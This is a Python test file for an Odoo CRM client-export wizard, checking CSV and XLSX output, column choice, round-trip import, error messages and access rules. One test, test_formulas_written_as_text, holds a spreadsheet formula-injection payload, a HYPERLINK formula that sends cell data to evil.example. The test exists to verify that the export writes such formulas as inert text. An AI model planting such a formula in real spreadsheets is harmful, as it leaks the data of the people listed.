import base64
import csv
import io
from datetime import date, datetime

import openpyxl

from odoo.exceptions import AccessError, UserError
from odoo.tests.common import tagged

from ..tools.client_export import EXPORT_COLUMNS, EXPORT_KEYS
from ..tools.client_import import guess_mapping, parse_row, read_file
from .common import SmartbookCrmCase

ALL_LABELS = [label for _key, label in EXPORT_COLUMNS]


@tagged("post_install", "-at_install")
class TestClientExport(SmartbookCrmCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        Tag = cls.env["res.partner.category"]
        cls.tag_vip = Tag.create({"name": "Export VIP"})
        cls.tag_regular = Tag.create({"name": "Export Regular"})
        Partner = cls.env["res.partner"]
        cls.anna = Partner.create(
            {
                "name": "Anna Export",
                "smartbook_client": True,
                "smartbook_first_name": "Anna",
                "smartbook_last_name": "Export",
                "phone": "+34 612 34 56 78",
                "email": "anna.export@example.es",
                "smartbook_birthday": date(1990, 5, 20),
                "smartbook_gender": "female",
                "smartbook_profession": "Architect",
                "city": "Madrid",
                "country_id": cls.env.ref("base.es").id,
                "category_id": [(6, 0, (cls.tag_vip | cls.tag_regular).ids)],
                "smartbook_source_id": cls.env.ref("smartbook_crm.source_instagram").id,
                "smartbook_user_id": cls.user_employee.id,
                "smartbook_notes": "<p>Allergic to latex</p>",
                "smartbook_consent_sms": True,
                "smartbook_consent_marketing": True,
            }
        )
        cls.boris = Partner.create(
            {
                "name": "Boris Export",
                "smartbook_client": True,
                "mobile": "+46701234567",
                "smartbook_blacklisted": True,
                "smartbook_blacklist_reason": "No-shows",
            }
        )
        cls.segment = cls.env["smartbook.segment"].create(
            {"name": "Export VIPs", "tag_ids": [(6, 0, cls.tag_vip.ids)]}
        )
        cls.Export = cls.env["smartbook.client.export"].with_user(cls.user_manager)

    def _export(self, file_format="csv", context=None, **vals):
        wizard = self.Export.with_context(**(context or {})).create({"file_format": file_format, **vals})
        action = wizard.action_export()
        return wizard, action, base64.b64decode(wizard.file_data)

    def _csv_rows(self, content):
        self.assertTrue(content.startswith("\ufeff".encode()), "a BOM, for spreadsheet programs")
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))

    def _xlsx_rows(self, content):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        return [list(row) for row in sheet.iter_rows(values_only=True)]

    def _from_list(self, **context):
        return {"active_model": "res.partner", **context}

    # ------------------------------------------------------------------ sources

    def test_segment_to_csv(self):
        wizard, action, content = self._export(context={"default_segment_id": self.segment.id})
        self.assertEqual(wizard.client_count, 1)
        header, *rows = self._csv_rows(content)
        self.assertEqual(header, ALL_LABELS)
        self.assertEqual(len(rows), 1)
        anna = dict(zip(EXPORT_KEYS, rows[0], strict=True))
        tags, created_on = anna.pop("tags"), anna.pop("created_on")
        self.assertEqual(set(tags.split(", ")), {"Export VIP", "Export Regular"})
        self.assertEqual(date.fromisoformat(created_on), self.anna.create_date.date())
        self.assertEqual(
            anna,
            {
                "name": "Anna Export",
                "first_name": "Anna",
                "last_name": "Export",
                "phone": "+34612345678",
                "mobile": "",
                "email": "anna.export@example.es",
                "birthday": "1990-05-20",
                "gender": "female",
                "profession": "Architect",
                "country": "ES",
                "city": "Madrid",
                "source": "Instagram",
                "responsible": "sb_employee",
                "notes": "Allergic to latex",
                "blacklisted": "0",
                "blacklist_reason": "",
                "consent_sms": "1",
                "consent_telegram": "0",
                "consent_email": "0",
                "consent_marketing": "1",
            },
        )
        self.assertEqual(action["type"], "ir.actions.act_url")
        self.assertIn("/web/content/", action["url"])
        self.assertIn("download=true", action["url"])
        self.assertIn(f"id={wizard.id}", action["url"])
        self.assertRegex(wizard.file_name, r"^export-vips-\d{4}-\d{2}-\d{2}\.csv$")

    def test_segment_to_xlsx(self):
        _wizard, _action, content = self._export("xlsx", context={"default_segment_id": self.segment.id})
        header, *rows = self._xlsx_rows(content)
        self.assertEqual(list(header), ALL_LABELS)
        anna = dict(zip(EXPORT_KEYS, rows[0], strict=True))
        self.assertEqual(len(rows), 1)
        self.assertEqual(anna["phone"], "+34612345678")
        self.assertEqual(anna["birthday"], datetime(1990, 5, 20))  # a date cell
        self.assertIs(anna["consent_sms"], True)
        self.assertIs(anna["consent_telegram"], False)
        self.assertIsNone(anna["mobile"])
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        self.assertEqual(
            sheet.cell(row=2, column=EXPORT_KEYS.index("birthday") + 1).number_format, "yyyy-mm-dd"
        )

    def test_selected_clients_to_xlsx(self):
        selected = (self.anna | self.boris | self.company_contact).ids
        context = self._from_list(active_ids=selected, active_domain=[("smartbook_client", "=", True)])
        wizard, _action, content = self._export("xlsx", context=context)
        self.assertFalse(wizard.segment_id)
        self.assertEqual(wizard.client_count, 2, "the company contact is not a client")
        _header, *rows = self._xlsx_rows(content)
        names = [row[EXPORT_KEYS.index("name")] for row in rows]
        self.assertEqual(names, ["Anna Export", "Boris Export"])
        boris = dict(zip(EXPORT_KEYS, rows[1], strict=True))
        self.assertEqual(boris["mobile"], "+46701234567")
        self.assertIs(boris["blacklisted"], True)
        self.assertEqual(boris["blacklist_reason"], "No-shows")
        self.assertIsNone(boris["tags"])

    def test_current_filter_when_nothing_selected(self):
        context = self._from_list(active_ids=[], active_domain=[("name", "like", "% Export")])
        _wizard, _action, content = self._export(context=context)
        _header, *rows = self._csv_rows(content)
        self.assertEqual([row[0] for row in rows], ["Anna Export", "Boris Export"])

    def test_filter_when_select_all_goes_past_the_limit_of_ids(self):
        self.env["ir.config_parameter"].set_param("web.active_ids_limit", 1)
        context = self._from_list(active_ids=self.anna.ids, active_domain=[("name", "like", "% Export")])
        wizard, _action, content = self._export(context=context)
        self.assertEqual(wizard.client_count, 2)
        self.assertEqual(len(self._csv_rows(content)), 3)

    def test_archived_tags_left_out(self):
        self.tag_regular.active = False
        columns = {f"column_{key}": key in ("name", "tags") for key in EXPORT_KEYS}
        _wizard, _action, content = self._export(context={"default_segment_id": self.segment.id}, **columns)
        self.assertEqual(self._csv_rows(content)[1], ["Anna Export", "Export VIP"])

    def test_many_selected_clients(self):
        # Up to web.active_ids_limit (20,000) ids: more text than Odoo lets ast.literal_eval read.
        selected = [*range(10**9, 10**9 + 19_000), self.boris.id]
        context = self._from_list(active_ids=selected, active_domain=[])
        wizard, _action, content = self._export(context=context)
        self.assertGreater(len(wizard.client_domain), 102_400)
        _header, *rows = self._csv_rows(content)
        self.assertEqual([row[0] for row in rows], ["Boris Export"])

    def test_chosen_columns_only(self):
        columns = {f"column_{key}": key in ("name", "phone", "tags") for key in EXPORT_KEYS}
        for file_format in ("csv", "xlsx"):
            with self.subTest(file_format=file_format):
                _wizard, _action, content = self._export(
                    file_format, context={"default_segment_id": self.segment.id}, **columns
                )
                rows = self._csv_rows(content) if file_format == "csv" else self._xlsx_rows(content)
                self.assertEqual(list(rows[0]), ["Name", "Phone", "Tags"])
                self.assertEqual(list(rows[1][:2]), ["Anna Export", "+34612345678"])

    # ------------------------------------------------------------------ round trip

    def test_exported_file_imports_back(self):
        for file_format in ("csv", "xlsx"):
            with self.subTest(file_format=file_format):
                _wizard, _action, content = self._export(
                    file_format, context={"default_segment_id": self.segment.id}
                )
                client_file = read_file(content, f"clients.{file_format}")
                mapping = guess_mapping(client_file.header)
                self.assertEqual(mapping, [*EXPORT_KEYS[:-1], None], "Created On is for information only")
                record, problems = parse_row(client_file.rows[0][1], mapping)
                self.assertFalse(problems)
                self.assertEqual(record["phone"], "+34612345678")
                self.assertEqual(record["birthday"], date(1990, 5, 20))
                self.assertEqual(record["country"], "ES")
                self.assertEqual(record["gender"], "female")
                self.assertEqual(set(record["tags"]), {"Export VIP", "Export Regular"})
                self.assertEqual(record["responsible"], "sb_employee")
                self.assertIs(record["consent_sms"], True)
                self.assertIs(record["blacklisted"], False)

    def test_formulas_written_as_text(self):
        formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
        client = self.env["res.partner"].create(
            {"name": formula, "smartbook_client": True, "smartbook_profession": "@SUM(A1:A9)"}
        )
        domain = f'[["id", "=", {client.id}]]'
        _wizard, _action, content = self._export("csv", client_domain=domain)
        header, row = self._csv_rows(content)
        values = dict(zip(header, row, strict=True))
        self.assertEqual(values["Name"], "'" + formula)
        self.assertEqual(values["Profession"], "'@SUM(A1:A9)")
        record, _problems = parse_row(row, guess_mapping(header))
        self.assertEqual(record["name"], formula, "the import reads the export back")
        _wizard, _action, content = self._export("xlsx", client_domain=domain)
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        self.assertEqual((sheet["A2"].value, sheet["A2"].data_type), (formula, "s"))
        self.assertFalse(
            [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        )

    # ------------------------------------------------------------------ bad input

    def test_no_column_is_a_clear_error(self):
        columns = {f"column_{key}": False for key in EXPORT_KEYS}
        with self.assertRaisesRegex(UserError, "Choose at least one column"):
            self._export(context={"default_segment_id": self.segment.id}, **columns)

    def test_empty_selection_is_a_clear_error(self):
        context = self._from_list(active_ids=self.company_contact.ids, active_domain=[])
        with self.assertRaisesRegex(UserError, "no client to export"):
            self._export(context=context)

    def test_nothing_to_export_without_a_source(self):
        with self.assertRaisesRegex(UserError, "start the export from a segment or from the client list"):
            self._export()

    def test_export_is_for_managers(self):
        with self.assertRaises(AccessError):
            self.env["smartbook.client.export"].with_user(self.user_employee).create(
                {"segment_id": self.segment.id}
            )
